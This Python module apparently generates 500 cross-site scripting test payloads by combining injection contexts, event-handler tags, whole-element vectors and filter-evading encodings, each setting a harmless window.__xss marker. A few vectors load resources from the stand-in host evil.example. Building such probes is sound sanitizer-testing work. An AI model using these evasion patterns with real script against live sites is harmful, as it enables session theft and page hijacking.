"""Five hundred ways to make a page run what somebody wrote, made by rule: places × tags × spellings.

Each sets `window.__xss`. None is taken from a list of others.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import cycle, islice
from urllib.parse import quote

__all__ = ["payloads"]

RUN = "window.__xss=1"

PLACES = (
    "{}",
    '">{}',
    "'>{}",
    "`>{}",
    "--></script></style></title></textarea></option></select></template>{}",
    "</p></li></form></dialog>{}<p>",
    "{{% raw %}}{}{{% endraw %}}",
    "]]>{}<![CDATA[",
    "<noscript><p title='</noscript>{}'>",
    "<math><mtext><table><mglyph><style><!--</style>{}",
    "<svg><title>{}</title></svg>",
)  # fmt: skip
"""Where in a page the words might stand: text, attributes, raw text, foreign content."""

TAGS: tuple[tuple[str, str], ...] = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("a href=# tabindex=0", "onmouseover"),
    ("div style=animation-name:x", "onanimationstart"),
    ("marquee", "onstart"),
    ("object data=x", "onerror"),
    ("iframe src=about:blank", "onload"),
    ("button hx-get=/console hx-trigger=load", "hx-on::after-request"),
    ("div data-hx-trigger=load data-hx-get=/console", "hx-on:htmx:load"),
)

WHOLE = (
    f"<script>{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script type=module>{RUN}</script>",
    f"<iframe srcdoc='<script>parent.{RUN.removeprefix('window.')}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN.removeprefix('window.')}></iframe>",
    f"<object data=data:text/html,<script>{RUN}</script>></object>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN} id=x>x</a>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<meta http-equiv=refresh content=0;url=javascript:{RUN}>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    f"<template><script>{RUN}</script></template>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><a xlink:href=javascript:{RUN}>x</a></math>",
    f"<div hx-vals='js:{{x: {RUN}}}' hx-get=/console hx-trigger=load></div>",
    f"<div hx-trigger='load[{RUN}]' hx-get=/console></div>",
    f"{{{{ ''.__class__ }}}}{{% set x = 1 %}}<script>{RUN}</script>",
    f"${{{RUN}}}#{{{RUN}}}[[{RUN}]]",
)


def _entities(text: str) -> str:
    return "".join(f"&#{ord(one)};" for one in text)


def _hexed(text: str) -> str:
    return "".join(f"&#x{ord(one):x}" for one in text)


def _wide(text: str) -> str:
    return "".join(chr(ord(one) + 0xFEE0) if one in "<>\"'=" else one for one in text)


SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.upper().replace(RUN.upper(), RUN),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t\n"),
    lambda text: text.replace("<", "<\x0b").replace("=", "\x0c="),
    lambda text: text.replace(RUN, _entities(RUN)),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    quote,
    lambda text: quote(quote(text)),
    _hexed,
    _wide,
    lambda text: text.replace("script", "scr<script>ipt").replace("on", "o\u200bn"),
    lambda text: text + "\u202e" + text[::-1],
)


def _shapes() -> Iterator[str]:
    for tag, event in TAGS:
        yield f"<{tag} {event}={RUN}>"
        yield f'<{tag} {event}="{RUN}" x="'
    yield from WHOLE


def payloads(count: int = 500) -> list[str]:
    """The first so many, each another one."""
    found: dict[str, None] = {}
    shapes = list(_shapes())
    for turn in range(len(PLACES) * len(SPELLINGS)):
        place = PLACES[turn % len(PLACES)]
        spellings = islice(cycle(SPELLINGS), turn, turn + len(shapes))
        for shape, spell in zip(shapes, spellings, strict=True):
            found[place.format(spell(shape))] = None
            if len(found) == count:
                return list(found)
    raise AssertionError("the rules make too few")
